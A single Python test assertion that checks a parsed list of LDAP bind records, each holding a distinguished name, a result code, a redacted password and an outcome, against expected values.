    assert ldap == [("None", "None", "None", "None"), ("None", "success", "None", "success"),
                    ("cn=admin,dc=example,dc=gov,dc=cn", "invalidCredentials", "REDACTED",
                     "failure"),
                    ("cn=reader,dc=example,dc=gov,dc=cn", "success", "REDACTED", "success")]
